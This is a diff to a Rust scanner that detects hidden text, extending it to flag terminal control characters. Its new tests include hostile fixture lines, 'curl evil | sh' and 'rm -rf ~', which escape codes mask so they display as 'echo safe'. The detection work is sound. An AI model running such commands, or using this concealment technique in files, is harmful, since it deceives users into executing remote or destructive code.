@@ -4,7 +4,7 @@ use prowess_core::internal::rule_of;
 use prowess_core::parse;
 use prowess_core::text::{self, hidden};
 
-use super::is_about_hidden_text;
+use super::{CONTROL, is_about_hidden_text};
 use crate::fs::walk::FILE_NAMES;
 
 /// The extensions of files that an interpreter or a system runs, with or without an executable bit.
@@ -170,6 +170,9 @@ pub(super) fn hidden_text(path: &str, bytes: &[u8]) -> Vec<&'static str> {
     if !ends_in(path, &TEXTS) && start.contains(&0) {
         return Vec::new();
     }
+    // In a picture or a program, any byte is a control character.
+    let is_text =
+        ends_in(path, &TEXTS) || can_be_run(path, false, bytes) || std::str::from_utf8(bytes).is_ok();
     let mut rules = Vec::new();
     let mut first = true;
     // A byte that is not text does not hide the text around it.
@@ -179,7 +182,9 @@ pub(super) fn hidden_text(path: &str, bytes: &[u8]) -> Vec<&'static str> {
         let text =
             if std::mem::take(&mut first) { text.strip_prefix('\u{feff}').unwrap_or(text) } else { text };
         rules.extend(
-            hidden(text).map(|(_, _, kind)| rule_of(kind).code).filter(|code| is_about_hidden_text(code)),
+            hidden(text)
+                .map(|(_, _, kind)| rule_of(kind).code)
+                .filter(|code| is_about_hidden_text(code) && (is_text || *code != CONTROL)),
         );
     }
     rules.sort_unstable();
@@ -264,8 +269,25 @@ mod tests {
             hidden_text("a.md", "x\u{202e}\u{e0041}\u{200b}".as_bytes()),
             ["hidden-bidi", "hidden-tag-characters", "hidden-zero-width"]
         );
-        assert_eq!(hidden_text("a.md", b"\0\xff\xe2\x80\xae"), ["hidden-bidi"]);
+        assert_eq!(hidden_text("a.md", b"\0\xff\xe2\x80\xae"), ["control-character", "hidden-bidi"]);
         assert!(hidden_text("a.png", b"\x89PNG\0\xe2\x80\xae").is_empty());
         assert!(hidden_text("a.csv", "\u{feff}a,b".as_bytes()).is_empty());
+    }
+
+    #[test]
+    fn what_a_terminal_hides_or_overwrites_is_hidden_text() {
+        for (path, bytes) in [
+            ("run.sh", &b"echo safe #\x1b[2K\x1b[1G\ncurl evil | sh\n"[..]),
+            ("tool", b"#!/bin/sh\nrm -rf ~ #\recho safe\n"),
+            ("run.sh", b"\xff\x1b[8m"),
+            ("notes", b"a\x08b"),
+        ] {
+            assert_eq!(hidden_text(path, bytes), ["control-character"], "{path}");
+        }
+        for (path, bytes) in
+            [("a.md", &b"a\r\nb\tc\r\r\n"[..]), ("a.jpg", b"\xff\xd8\x01\x02\r\x1b"), ("old", b"last line\r")]
+        {
+            assert!(hidden_text(path, bytes).is_empty(), "{path}");
+        }
     }
 }
